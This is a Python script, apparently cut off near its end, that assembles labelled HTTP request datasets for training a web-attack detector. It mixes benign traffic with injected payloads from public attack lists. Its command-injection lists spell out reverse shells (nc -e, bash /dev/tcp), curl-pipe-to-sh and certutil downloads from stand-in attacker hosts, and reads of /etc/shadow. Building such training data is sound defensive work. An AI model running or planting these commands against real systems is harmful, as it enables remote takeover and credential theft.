#!/usr/bin/env python3
"""Build the labelled, deterministic request splits for wafer's detection model.

Reads the data sets under --data (../shared/datasets; .xz read with lzma, nothing
is copied into the repository) and writes --out/{train,valid,test}.jsonl, one
whole HTTP/1.1 request a line:

  {"raw": "...", "label": "benign"|"sqli"|..., "source": "set/file", "id": N,
   "loc": {"kind": "query", "name": "id"} | null, "payload": "..." | absent}

`loc` says where an attack payload was embedded (the inspection unit kind and
name that carry it); build_units.py uses it to label units. Python 3 stdlib
only. Deterministic for a given --seed and the same input files (the Debian
text sources must be the same package versions: see train/README.md).

Splitting: every attack payload, and every synthetic benign text, goes to a
split by a hash of its normalised form (percent-decoded, HTML-unescaped,
lower-cased, whitespace collapsed), so one payload never lands in two splits,
whatever list it came from. Recorded requests go by their recording file
(browser_har, api_cassettes), by file (CSIC 2010: normalTrafficTraining gives
train/valid, normalTrafficTest gives test minus requests also in the training
file) or by normalised URL (access logs), after de-duplication.
"""
import argparse
import collections
import csv
import glob
import hashlib
import html
import io
import json
import lzma
import os
import random
import re
import sys
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import header_data  # noqa: E402

CLASSES = ["benign", "sqli", "xss", "cmdi", "traversal", "other_injection"]

# ---------------------------------------------------------------- helpers


def open_text(path, encoding="utf-8"):
    if path.endswith(".xz"):
        return io.TextIOWrapper(lzma.open(path, "rb"), encoding=encoding, errors="replace", newline="")
    return open(path, encoding=encoding, errors="replace", newline="")


def find(data, rel):
    """rel or rel.xz under data."""
    p = os.path.join(data, rel)
    if os.path.exists(p):
        return p
    if os.path.exists(p + ".xz"):
        return p + ".xz"
    raise FileNotFoundError(p)


_ws = re.compile(r"\s+")


def norm_payload(s):
    for _ in range(3):
        d = urllib.parse.unquote_plus(s) if "%" in s or "+" in s else s
        if d == s:
            break
        s = d
    s = html.unescape(s)
    return _ws.sub(" ", s.lower()).strip()


def hfrac(key, seed):
    h = hashlib.sha256(("%d\x00%s" % (seed, key)).encode("utf-8", "surrogatepass")).digest()
    return int.from_bytes(h[:8], "big") / 2.0 ** 64


def split_of(key, seed, valid=0.1, test=0.1):
    f = hfrac(key, seed)
    if f < test:
        return "test"
    if f < test + valid:
        return "valid"
    return "train"


_pct = re.compile(r"%[0-9A-Fa-f]{2}|%u[0-9A-Fa-f]{4}")
TARGET_SAFE = "-._~!$&'()*+,;=:@/?%"


def safe_target(t):
    """Percent-encode what a strict HTTP/1.1 parser refuses in a request target."""
    out = []
    for ch in t:
        if ch in TARGET_SAFE or ("a" <= ch <= "z") or ("A" <= ch <= "Z") or ("0" <= ch <= "9"):
            out.append(ch)
        else:
            out.append(urllib.parse.quote(ch, safe=""))
    return "".join(out)


def enc_value(p, space_plus=True, keep_slash=False):
    """Encode a payload as a browser would for a URL or form value. A payload
    that already holds percent escapes is taken as URL-form: only what cannot
    stand raw is escaped."""
    if _pct.search(p):
        safe = "%/:@!$'()*,;=-._~" if keep_slash else "%:@!$'()*,;-._~"
        s = urllib.parse.quote(p, safe=safe)
        return s
    if space_plus:
        return urllib.parse.quote_plus(p, safe="/" if keep_slash else "")
    return urllib.parse.quote(p, safe="/" if keep_slash else "")


def enc_cookie(p):
    return urllib.parse.quote(p, safe="!#$&'()*+-./:<=>?@[]^_`{|}~") if not _pct.search(p) else \
        urllib.parse.quote(p, safe="%!#$&'()*+-./:<=>?@[]^_`{|}~")


HOP = {"host", "content-length", "transfer-encoding", "connection", "keep-alive", "te", "upgrade",
       "proxy-connection", "trailer", "expect", "http2-settings"}
_hname = re.compile(r"^[!#$%&'*+\-.^_`|~0-9A-Za-z]+$")


def header_ok(name, value):
    if not _hname.match(name) or name.lower() in HOP or name.startswith(":"):
        return False
    for ch in value:
        o = ord(ch)
        if (o < 32 and ch != "\t") or o == 127 or o > 255:
            return False
    return len(value) < 8000


def build_raw(method, host, target, headers, body=None, ctype=None):
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: " + host]
    have_ct = False
    for n, v in headers:
        if not header_ok(n, v):
            continue
        if n.lower() == "content-type":
            if body is None:
                continue
            have_ct = True
        lines.append("%s: %s" % (n, v.strip()))
    if body is not None:
        if ctype and not have_ct:
            lines.append("Content-Type: " + ctype)
        lines.append("Content-Length: %d" % len(body.encode("utf-8")))
    return "\r\n".join(lines) + "\r\n\r\n" + (body or "")


# ---------------------------------------------------------------- context pools

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91",
    "curl/7.88.1", "python-requests/2.31.0", "okhttp/4.12.0", "Wget/1.21.3",
    "Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)",
]
LANGS = ["en-US,en;q=0.9", "es-AR,es;q=0.9,en;q=0.8", "de-DE,de;q=0.9", "fr-FR,fr;q=0.8,en;q=0.5", "en-GB,en;q=0.7"]
GEN_NAMES = ["id", "q", "query", "search", "s", "name", "user", "username", "email", "page", "p", "lang", "category",
             "cat", "sort", "order", "filter", "comment", "message", "title", "text", "item", "product", "pid",
             "ref", "view", "action", "type", "mode", "value", "data", "input", "keyword", "term", "code", "tag",
             "city", "address", "first_name", "last_name", "desc", "description", "body", "content", "note",
             "subject", "uid", "account", "login", "pass", "password", "key", "option", "sid", "nombre", "modo",
             "field", "param", "arg", "opt", "v", "x", "f", "c", "section", "topic", "author", "year", "month"]
FILE_NAMES = ["file", "path", "page", "include", "template", "doc", "document", "folder", "dir", "img", "image",
              "download", "load", "read", "lang", "style", "theme", "layout", "module", "conf", "filename"]
URL_NAMES = ["url", "next", "redirect", "redirect_uri", "return", "returnTo", "return_to", "continue", "dest",
             "destination", "goto", "target", "callback", "link", "u", "r", "to", "out", "site", "forward"]
CMD_NAMES = ["host", "ip", "ping", "domain", "addr", "server", "exec", "run", "cmd", "command", "daemon", "log",
             "process", "cfg", "jump", "func", "arg", "feature", "email", "to", "from"]
CLASS_NAMES = {"traversal": FILE_NAMES, "other_injection": URL_NAMES, "cmdi": CMD_NAMES}
COOKIE_NAMES = ["session", "sid", "PHPSESSID", "JSESSIONID", "prefs", "lang", "theme", "cart", "user", "tracking",
                "_ga", "remember_me", "last_search", "consent"]
JSON_KEYS = ["query", "name", "comment", "text", "message", "title", "description", "username", "email", "search",
             "filter", "path", "file", "url", "value", "note", "address", "content", "tags", "label"]
API_PATHS = ["/api/v1/search", "/api/v2/items", "/api/comments", "/graphql", "/api/users/profile", "/rest/orders",
             "/api/v1/products", "/v1/messages", "/api/notes", "/api/feedback"]
FORM_PATHS = ["/login", "/search", "/contact", "/comment", "/account/update", "/checkout", "/cart/add",
              "/post/new", "/profile/edit", "/subscribe", "/index.php", "/wp-comments-post.php", "/feedback"]


class Pools:
    """Hosts, paths and parameter names seen in the real benign traffic, so that
    synthetic requests (attack and benign alike) share their context."""

    def __init__(self):
        self.hosts = collections.Counter()
        self.paths = collections.Counter()
        self.names = collections.Counter()

    def add(self, host, path, names):
        self.hosts[host] += 1
        if path and len(path) < 80 and "%" not in path:
            self.paths[path] += 1
        for n in names:
            if 1 <= len(n) <= 24 and re.match(r"^[A-Za-z_][A-Za-z0-9_\-\[\]]*$", n):
                self.names[n] += 1

    def freeze(self):
        self.hl = sorted(self.hosts)
        self.pl = sorted(p for p in self.paths if p.count("/") <= 4)
        self.nl = sorted(n for n, c in self.names.items() if c >= 3)


def pick_name(rng, pools, cls):
    r = rng.random()
    if cls in CLASS_NAMES and r < 0.35:
        return rng.choice(CLASS_NAMES[cls])
    if r < 0.7:
        return rng.choice(GEN_NAMES)
    return rng.choice(pools.nl) if pools.nl else rng.choice(GEN_NAMES)


def base_headers(rng, host):
    h = [("User-Agent", rng.choice(UAS)), ("Accept", rng.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"])),
         ("Accept-Language", rng.choice(LANGS))]
    if rng.random() < 0.5:
        h.append(("Referer", "https://%s%s" % (host, rng.choice(["/", "/index.html", "/search", "/products", "/home"]))))
    return h


def filler_args(rng, n):
    out = []
    for _ in range(n):
        k = rng.choice(["page", "lang", "sort", "limit", "offset", "v", "ref", "utm_source", "id", "format"])
        v = rng.choice(["1", "2", "10", "en", "es", "asc", "desc", "json", "home", "newsletter", str(rng.randint(1, 99999))])
        out.append((k, v))
    return out


def embed(rng, pools, payload, cls, ctx=None):
    """Embed a value in a realistic request. Returns (raw, loc)."""
    host = rng.choice(pools.hl)
    if ctx is None:
        r = rng.random()
        if cls == "traversal":
            ctx = "path" if r < 0.25 else "query" if r < 0.7 else "form" if r < 0.82 else "json" if r < 0.93 else "cookie"
        else:
            ctx = "query" if r < 0.45 else "form" if r < 0.7 else "json" if r < 0.85 else "cookie" if r < 0.93 else "path"
    hdr = base_headers(rng, host)
    name = pick_name(rng, pools, cls)
    base = rng.choice(pools.pl) if pools.pl and rng.random() < 0.6 else rng.choice(FORM_PATHS + API_PATHS)
    if ctx == "query":
        args = filler_args(rng, rng.randint(0, 2))
        args.insert(rng.randint(0, len(args)), (name, None))
        qs = "&".join("%s=%s" % (k, enc_value(payload) if v is None else v) for k, v in args)
        return build_raw("GET", host, safe_target(base) + "?" + qs, hdr), {"kind": "query", "name": name}
    if ctx == "form":
        args = filler_args(rng, rng.randint(0, 2))
        args.insert(rng.randint(0, len(args)), (name, None))
        body = "&".join("%s=%s" % (k, enc_value(payload) if v is None else v) for k, v in args)
        return build_raw("POST", host, safe_target(rng.choice(FORM_PATHS)), hdr, body,
                         "application/x-www-form-urlencoded"), {"kind": "form", "name": name}
    if ctx == "json":
        key = rng.choice(JSON_KEYS) if rng.random() < 0.5 else name
        obj = {}
        if rng.random() < 0.5:
            obj["page"] = rng.randint(1, 9)
        if rng.random() < 0.3:
            obj = {"data": {key: payload, "lang": "en"}}
            jpath = "data." + key
        else:
            obj[key] = payload
            jpath = key
        body = json.dumps(obj, ensure_ascii=rng.random() < 0.5)
        return build_raw("POST", host, safe_target(rng.choice(API_PATHS)), hdr, body, "application/json"), \
            {"kind": "json", "name": jpath}
    if ctx == "cookie":
        cname = rng.choice(COOKIE_NAMES + [name])
        c = "%s=%s" % (cname, enc_cookie(payload))
        if rng.random() < 0.6:
            c = "sid=%032x; %s" % (rng.getrandbits(128), c)
        hdr.append(("Cookie", c))
        return build_raw("GET", host, safe_target(base), hdr), {"kind": "cookie", "name": cname}
    # path: a segment (or, for traversal payloads with '/', several)
    prefix = rng.choice(["/static", "/files", "/download", "/view", "/img", "/docs", "/api/v1/files", ""])
    seg = enc_value(payload, space_plus=False, keep_slash=(cls == "traversal"))
    if not seg.startswith("/"):
        seg = "/" + seg
    return build_raw("GET", host, safe_target(prefix + seg), hdr), {"kind": "path", "name": ""}


# ---------------------------------------------------------------- attack payloads

PATT_CLASS = {"Command Injection": "cmdi", "Directory Traversal": "traversal", "File Inclusion": "traversal",
              "LDAP Injection": "other_injection", "NoSQL Injection": "other_injection",
              "Open Redirect": "other_injection", "SQL Injection": "sqli",
              "Server Side Template Injection": "other_injection", "XSS Injection": "xss",
              "XXE Injection": "other_injection"}
FUZZ_CLASS = {"os-cmd-execution": "cmdi", "path-traversal": "traversal", "lfi": "traversal", "rfi": "traversal",
              "sql-injection": "sqli", "xss": "xss", "ldap": "other_injection", "xpath": "other_injection",
              "server-side-include": "other_injection", "no-sql-injection": "other_injection",
              "xml": "other_injection", "redirect": "other_injection", "http-protocol": "other_injection"}
# Lists that are not attacks on their own (bare names, ordinary file names) or
# protocol probes that are not values.
SKIP_FILES = {"0xcela_event_handlers.txt", "port_swigger_xss_cheatsheet_event_handlers.txt",
              "LDAP_attributes.txt", "Web-files.txt", "hpp.txt"}
# The largest lists would swamp their class; at most this many lines each.
FILE_CAP = {"dotdotpwn.txt": 3000, "rfi.txt": 1200, "deep_traversal.txt": 1500,
            "traversals-8-deep-exotic-encoding.txt": 800, "directory_traversal.txt": 1500}
CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "sleep 5", "ping -c 3 10.0.0.1", "nc -e /bin/sh 10.0.0.1 4444",
        "curl http://attacker.example/x.sh|sh", "wget http://198.51.100.7/a -O /tmp/a", "net user", "type C:\\boot.ini",
        "echo vulnerable", "ifconfig", "dir c:\\"]
EVIL = ["evil.example", "attacker.example.net", "198.51.100.23", "phish.example.org", "xn--ggle-0nda.com",
        "example.com", "google.com%2f%2e%2e"]
_comment = re.compile(r"^#\s*[A-Za-z][A-Za-z0-9 .,:'()/-]*$")


def read_list(path, keep_hash=False):
    with open_text(path) as f:
        for line in f:
            line = line.rstrip("\r\n")
            if not line.strip():
                continue
            if not keep_hash and (_comment.match(line) or line.startswith("# ")):
                continue
            yield line


def attack_items(data, rng):
    """Yield (payload, class, source, kind) where kind is 'value' or 'target'
    (a whole path+query with the injected parameter named)."""
    # payloadsallthethings
    for f in sorted(glob.glob(os.path.join(data, "payloadsallthethings", "*", "Intruder*", "*"))):
        top = f.split(os.sep)[-3]
        cls = PATT_CLASS.get(top)
        base = os.path.basename(f).replace(".xz", "")
        if cls is None or base in SKIP_FILES:
            continue
        lines = list(read_list(f, keep_hash=(top == "Server Side Template Injection")))
        cap = FILE_CAP.get(base)
        if cap and len(lines) > cap:
            lines = rng.sample(lines, cap)
        for line in lines:
            yield line, cls, "payloadsallthethings/" + top + "/" + base, "value"
    # fuzzdb
    for f in sorted(glob.glob(os.path.join(data, "fuzzdb", "attack", "**", "*.txt"), recursive=True)):
        rel = os.path.relpath(f, os.path.join(data, "fuzzdb", "attack"))
        top = rel.split(os.sep)[0]
        base = os.path.basename(f)
        cls = FUZZ_CLASS.get(top)
        if cls is None or base in SKIP_FILES:
            continue
        lines = list(read_list(f))
        cap = FILE_CAP.get(base)
        if cap and len(lines) > cap:
            lines = rng.sample(lines, cap)
        for line in lines:
            if "{cmd}" in line:
                line = line.replace("{cmd}", rng.choice(CMDS))
            if "{target}" in line:
                line = line.replace("{target}", rng.choice(EVIL))
            if base == "rfi.txt":
                line = line.replace("XXpathXX", "http://%s/%s.txt?" % (rng.choice(EVIL[:4]), rng.choice(["shell", "c99", "r57", "x", "cmd"])))
                yield line, cls, "fuzzdb/" + rel, "target"
                continue
            if line.startswith("?") and "=" in line:
                yield line, cls, "fuzzdb/" + rel, "target"
                continue
            yield line, cls, "fuzzdb/" + rel, "value"
    # httpparams (attack rows; the norm rows are CSIC 2010 values and come in through CSIC)
    hp = {"sqli": "sqli", "xss": "xss", "path-traversal": "traversal", "cmdi": "cmdi"}
    for name in ["payload_train.csv", "payload_test.csv"]:
        with open_text(find(data, "httpparams/" + name)) as f:
            for row in csv.DictReader(f):
                cls = hp.get(row["attack_type"])
                if cls is None or '",' in row["payload"]:
                    continue
                yield row["payload"], cls, "httpparams/" + name, "value"
    # kaggle sqli (attack rows only; see README for the benign half)
    with open_text(find(data, "sqli_kaggle_sajid576/Modified_SQL_Dataset.csv")) as f:
        for row in csv.DictReader(f):
            if row["Label"].strip() == "1":
                yield row["Query"], "sqli", "sqli_kaggle_sajid576", "value"
    for p in synth_cmdi(rng, 2500):
        yield p, "cmdi", "synthetic/cmdi", "value"
    # kaggle xss (attack rows; benign rows are used as HTML content below)
    with open_text(find(data, "xss_kaggle/XSS_dataset.csv")) as f:
        for row in csv.DictReader(f):
            if row["Label"].strip() == "1":
                yield row["Sentence"], "xss", "xss_kaggle", "value"


CMD_SEPS = [";", "|", "||", "&&", "&", "%0a", "\n", "`", "$(", ";;", "| ", "; "]
CMD_PRE = ["", "127.0.0.1", "8.8.8.8", "example.com", "foo", "test.txt", "1", "report.pdf", "x"]


def synth_cmdi(rng, n):
    """Command injections composed from separators and commands: the lists hold
    fewer than 700 distinct ones, too few for a class."""
    more = ["cat /etc/shadow", "id;uname -a", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "ls /", "env", "ps aux",
            "powershell -enc SQBFAFgA", "certutil -urlcache -f http://198.51.100.7/a.exe a.exe", "busybox wget http://x.example/b",
            "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "sleep 10", "ping -n 5 127.0.0.1", "nslookup x.attacker.example",
            "cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "/bin/cat /etc/hosts", "type %SYSTEMROOT%\\win.ini", "whoami /all", "net localgroup administrators"]
    out = []
    for _ in range(n):
        sep = rng.choice(CMD_SEPS)
        cmd = rng.choice(CMDS + more)
        if sep == "`":
            p = rng.choice(CMD_PRE) + "`" + cmd + "`"
        elif sep == "$(":
            p = rng.choice(CMD_PRE) + "$(" + cmd + ")"
        else:
            p = rng.choice(CMD_PRE) + sep + cmd + rng.choice(["", "", " #", ";", " &", "|"])
        out.append(p)
    return out


def embed_target(rng, pools, line):
    """A fuzzdb line that is itself a path+query (rfi.txt, redirect templates):
    the request target; the injected argument is the last one with a value."""
    host = rng.choice(pools.hl)
    if line.startswith("?"):
        line = rng.choice(["/", "/login", "/redirect", "/out", "/index.php"]) + line
    path, _, qs = line.partition("?")
    qs = qs.rstrip("?")
    args = [a.partition("=") for a in qs.split("&") if a]
    name = ""
    parts = []
    for k, eq, v in args:
        if eq and v:
            name = k
        parts.append(k + eq + enc_value(v) if eq else k)
    target = safe_target(path) + ("?" + "&".join(parts) if parts else "")
    return build_raw("GET", host, target, base_headers(rng, host)), {"kind": "query", "name": urllib.parse.unquote_plus(name)}


# ---------------------------------------------------------------- benign sources

PLACEHOLDER = re.compile(r"<<?[A-Za-z0-9_\-]+>>?")


def fill_placeholder(rng, ph):
    n = ph.strip("<>").lower()
    if "user_agent" in n:
        return rng.choice(UAS[7:10] + ["PRAW/7.7.1 prawcore/2.4.0", "PyGithub/Python", "Zenpy/2.0.49"])
    if "jwt" in n:
        return "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.%s" % "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-") for _ in range(43))
    if "token" in n or "credentials" in n or "auth" in n or "password" in n or "redacted" in n or "code" in n or "client_id" in n:
        return "%040x" % rng.getrandbits(160)
    if "id" in n:
        return str(rng.randint(1000, 99999999))
    if "subreddit" in n:
        return rng.choice(["test", "pics", "learnpython", "askscience", "earthporn"])
    if "repository" in n:
        return rng.choice(["hello-world", "octokit-test-repo", "sandbox", "dotfiles", "website"])
    if "org" in n or "team" in n:
        return rng.choice(["acme-corp", "example-org", "core-team", "devs"])
    if "login" in n or "user" in n or "name" in n:
        return rng.choice(["jdoe", "alice-dev", "bob42", "maria.garcia", "octocat", "sam_lee"])
    return rng.choice(["sample", "value", "example", "content"])


def har_requests(data, rng, pools, items, cap_per_host=60):
    srcs = [("browser_har/fixture_requests.jsonl", None), ("browser_har/crux_ar_requests.jsonl", None),
            ("api_cassettes/requests.jsonl", None)]
    per_host = collections.Counter()
    seen = set()
    for rel, _ in srcs:
        with open_text(find(data, rel)) as f:
            for line in f:
                d = json.loads(line)
                u = urllib.parse.urlsplit(d["url"])
                if u.scheme not in ("http", "https") or not u.netloc:
                    continue
                body = d.get("body")
                if body is not None and len(body) > 16384:
                    continue
                host = u.netloc
                target = (u.path or "/") + ("?" + u.query if u.query else "")
                headers = [(h[0], h[1]) for h in d.get("headers") or [] if isinstance(h, list) and len(h) == 2]
                phs = d.get("placeholders") or []
                if phs:
                    repl = {p: fill_placeholder(rng, p) for p in sorted(set(phs))}
                    def sub(s):
                        return PLACEHOLDER.sub(lambda m: repl.get(m.group(0), m.group(0)), s) if s else s
                    host, target, body = sub(host), sub(target), sub(body)
                    headers = [(n, sub(v)) for n, v in headers]
                key = norm_payload(d.get("method", "GET") + " " + host + target + " " + (body or ""))
                if key in seen:
                    continue
                seen.add(key)
                if per_host[host] >= cap_per_host:
                    continue
                per_host[host] += 1
                ctype = None
                for n, v in headers:
                    if n.lower() == "content-type":
                        ctype = v
                raw = build_raw(d.get("method", "GET"), host, safe_target(target), headers, body,
                                ctype or ("application/octet-stream" if body is not None else None))
                names = [a.partition("=")[0] for a in u.query.split("&") if a]
                pools.add(host, u.path, names)
                group = rel.split("/")[0] + ":" + d.get("path", "")
                items.append({"raw": raw, "label": "benign", "source": rel, "loc": None, "group": group})


CSIC_START = re.compile(r"^(GET|POST|PUT) http")


def csic_requests(path):
    cur = []
    with open_text(path, encoding="latin-1") as f:
        for line in f:
            line = line.rstrip("\r\n")
            if CSIC_START.match(line) and cur:
                yield cur
                cur = []
            cur.append(line)
    if cur:
        yield cur


def csic_raw(lines):
    """Rebuild one CSIC request: CRLF line ends, the body after the blank line,
    Content-Length recomputed (the files' values count the original bytes)."""
    head, body = [], []
    i = 0
    while i < len(lines) and lines[i] != "":
        head.append(lines[i])
        i += 1
    body = [l for l in lines[i + 1:] if l != ""]
    b = body[0] if body else None
    req = head[0]
    m = re.match(r"^(\S+) http://[^/]+(\S*) (HTTP/1\.[01])$", req)
    if not m:
        return None, None
    method, target = m.group(1), m.group(2) or "/"
    hdr = []
    host = "localhost:8080"
    for h in head[1:]:
        n, _, v = h.partition(":")
        if n.lower() == "host":
            host = v.strip()
            continue
        hdr.append((n.strip(), v.strip()))
    raw = build_raw(method, host, safe_target(target), hdr, b,
                    "application/x-www-form-urlencoded" if b is not None else None)
    key = norm_payload(method + " " + target + " " + (b or ""))
    return raw, key


def log_requests(data, items):
    seen = set()
    with open_text(find(data, "ruet_oj_weblog/weblog.csv")) as f:
        for row in csv.reader(f):
            if len(row) < 3:
                continue
            m = re.match(r"^(GET|POST|HEAD) (\S+) HTTP/1\.[01]$", row[2])
            if not m:
                continue
            key = norm_payload(m.group(2))
            if key in seen:
                continue
            seen.add(key)
            raw = build_raw(m.group(1), "ruet-oj.example.edu", safe_target(m.group(2)), [("User-Agent", UAS[0])],
                            "" if m.group(1) == "POST" else None, "application/x-www-form-urlencoded")
            items.append({"raw": raw, "label": "benign", "source": "ruet_oj_weblog", "loc": None, "group": "ruet:" + key})
    seen = set()
    with open_text(find(data, "nasa_ksc_1995/nasa_19950801.tsv"), encoding="latin-1") as f:
        next(f)
        for line in f:
            c = line.rstrip("\r\n").split("\t")
            if len(c) < 5 or c[3] not in ("GET", "HEAD", "POST"):
                continue
            key = norm_payload(c[4])
            if key in seen or not c[4].startswith("/"):
                continue
            seen.add(key)
            raw = build_raw(c[3], "www.ksc.nasa.gov", safe_target(c[4]), [("User-Agent", "Mozilla/2.0 (X11; I; Linux 1.2.13 i586)")])
            items.append({"raw": raw, "label": "benign", "source": "nasa_ksc_1995", "loc": None, "group": "nasa:" + key})


# ---------------------------------------------------------------- synthetic benign text (Debian)

HARD_NEG = [
    "select the best and drop the rest; it's 5 o'clock",
    "Select all that apply -- or none",
    "Union Station to Grand Central, then drop off at 5th & Main",
    "please update my order from last week; the size was wrong",
    "Where's my order? I'd like to select a different colour",
    "Tom & Jerry", "R&D department", "AT&T bill", "Procter & Gamble", "Johnson & Johnson baby shampoo",
    "O'Reilly Media", "rock 'n' roll", "he said \"hello\" and left", "5' 11\" tall", "100% cotton", "50% off today only",
    "wait... what?", "see ../docs for details", "loading...", "to be continued..", "C:\\Program Files\\App\\readme.txt",
    "the script was great, the cast even better", "cat lovers & dog people unite", "drop table tennis class?",
    "insert coin to continue", "delete my account please", "exec summary attached", "where to buy a table from ikea",
    "1 < 2 and 3 > 2", "a <= b", "x = y + 1", "price: $5.99 (incl. tax)", "#hashtag #blessed", "email me: jane.doe@example.com",
    "it's -5 degrees outside", "order by date, newest first", "SELECT * FROM my heart WHERE love = true (a poem)",
    "group by age & gender", "I love <3 you", "use ls -la to list hidden files", "rm -rf is dangerous, don't run it",
    "What does /etc/hosts do?", "kill -9 or sigterm?", "echo chamber", "the alert was a false alarm",
    "javascript tutorial for beginners", "how to write a bash script", "sleep 8 hours", "benchmark results 2024",
    "my password is too long?", "admin' office hours", "Let's meet at Joe's", "(optional) notes: none",
]


def debian_texts(paths):
    """Words, fortune sentences and licence prose from Debian packages."""
    words, sents = [], []
    w = paths["words"]
    if os.path.exists(w):
        with open(w, encoding="utf-8", errors="replace") as f:
            words = [l.strip() for l in f if l.strip() and "'" not in l]
    for fdir in [paths["fortunes"]]:
        for fp in sorted(glob.glob(os.path.join(fdir, "*"))):
            if fp.endswith(".dat") or os.path.isdir(fp) or os.path.islink(fp):
                continue
            with open(fp, encoding="utf-8", errors="replace") as f:
                for entry in f.read().split("\n%\n"):
                    t = " ".join(entry.split())
                    if 8 <= len(t) <= 400:
                        sents.append(t)
    for fp in sorted(glob.glob(os.path.join(paths["licenses"], "*"))):
        if os.path.isdir(fp) or os.path.islink(fp):
            continue
        with open(fp, encoding="utf-8", errors="replace") as f:
            for para in f.read().split("\n\n"):
                t = " ".join(para.split())
                if 20 <= len(t) <= 500:
                    sents.append(t)
    return sorted(set(words)), sorted(set(sents))


def benign_texts(rng, words, sents, n):
    out = []
    for _ in range(n):
        r = rng.random()
        if r < 0.25 and words:
            t = " ".join(rng.choice(words) for _ in range(rng.randint(1, 5)))
        elif r < 0.55 and sents:
            t = rng.choice(sents)
            if len(t) > 120 and rng.random() < 0.5:
                t = t[:rng.randint(40, 120)]
        elif r < 0.7 and words:
            a, b = rng.choice(words).capitalize(), rng.choice(words).capitalize()
            t = rng.choice(["%s & %s", "%s & %s Ltd.", "The %s & %s Co.", "%s's %s", "%s/%s", "%s - %s (2nd ed.)",
                            "%s... %s", "%s; %s", "%s: %s!", "\"%s\" by %s", "%s (%s)", "%s + %s = love"]) % (a, b)
        else:
            t = rng.choice(HARD_NEG)
            if words and rng.random() < 0.5:
                t = t + " " + rng.choice(words)
        out.append(t)
    return out


# ---------------------------------------------------------------- header-borne attacks (train/header_data.py)


def embed_header(rng, pools, words, payload, header):
    """A request whose `header` carries the payload; the other headers benign."""
    host = rng.choice(pools.hl)
    hdr = [(n, v) for n, v in header_data.benign_headers(rng, host, pools.hl, pools.pl, words) if n != header]
    hdr.insert(rng.randint(0, len(hdr)), (header, payload))
    base = rng.choice(pools.pl) if pools.pl and rng.random() < 0.7 else rng.choice(FORM_PATHS + API_PATHS)
    args = filler_args(rng, rng.randint(0, 2))
    target = safe_target(base) + ("?" + "&".join("%s=%s" % kv for kv in args) if args else "")
    if not header_ok(header, payload):
        return None, None
    return build_raw("GET", host, target, hdr), {"kind": "header", "name": header.lower()}


def header_rows(args, rng_seed, pools, words, items, seen):
    """Appended after every other row, with generators of their own seeds, so
    that the rows above keep their bytes and their splits:
    - Shellshock (cmdi) and Log4Shell (other_injection) payloads, mostly in an
      inspected header (User-Agent, Referer, X-Forwarded-For, ...), some in a
      query, form or JSON value;
    - 4% of the labelled sqli/xss/cmdi payloads once more, in a header, with
      the same split key as their first embedding (so still in one split);
    - benign requests with the header shapes of real traffic (browsers, apps,
      bots, libraries; search and same-site referers; proxy chains) and benign
      logins and names with command words and accents (`hai-ping2`, `José`)."""
    rng = random.Random(rng_seed * 7 + 4)
    gen = []
    for p in header_data.shellshock(random.Random(rng_seed * 7 + 1), args.shellshock):
        gen.append((p, "cmdi", "synthetic/shellshock"))
    for p in header_data.log4shell(random.Random(rng_seed * 7 + 2), args.log4shell):
        gen.append((p, "other_injection", "synthetic/log4shell"))
    for p, cls, src in gen:
        key = norm_payload(p)
        if key in seen:
            continue
        seen[key] = cls
        if rng.random() < 0.85:
            h = rng.choices(header_data.ATTACK_HEADERS, header_data.ATTACK_HEADER_W)[0]
            raw, loc = embed_header(rng, pools, words, p, h)
            if raw is None:
                continue
        else:
            raw, loc = embed(rng, pools, p, cls, rng.choice(["query", "form", "json"]))
        items.append({"raw": raw, "label": cls, "source": src, "loc": loc, "payload": p, "group": "p:" + key})
    again = []
    for it in items:
        if it["label"] in ("sqli", "xss", "cmdi") and it["source"].split("/")[0] not in ("synthetic",) \
                and it.get("payload") and rng.random() < 0.04:
            again.append(it)
    for it in again:
        h = rng.choices(header_data.ATTACK_HEADERS[:4], [40, 25, 25, 10])[0]
        raw, loc = embed_header(rng, pools, words, it["payload"], h)
        if raw is None:
            continue
        items.append({"raw": raw, "label": it["label"], "source": it["source"] + "#header", "loc": loc,
                      "payload": it["payload"], "group": it["group"]})
    brng = random.Random(rng_seed * 7 + 3)
    for _ in range(args.benign_headers):
        host = brng.choice(pools.hl)
        hdr = header_data.benign_headers(brng, host, pools.hl, pools.pl, words)
        base = brng.choice(pools.pl) if pools.pl and brng.random() < 0.7 else brng.choice(FORM_PATHS + API_PATHS)
        fa = filler_args(brng, brng.randint(0, 2))
        target = safe_target(base) + ("?" + "&".join("%s=%s" % kv for kv in fa) if fa else "")
        key = norm_payload("\n".join(v for n, v in hdr if n != "Accept"))
        items.append({"raw": build_raw("GET", host, target, hdr), "label": "benign", "source": "synthetic/headers",
                      "loc": None, "group": "h:" + key})
    for t in header_data.login_names(brng, words, args.logins):
        key = norm_payload(t)
        if not key or key in seen:
            continue
        seen[key] = "benign"
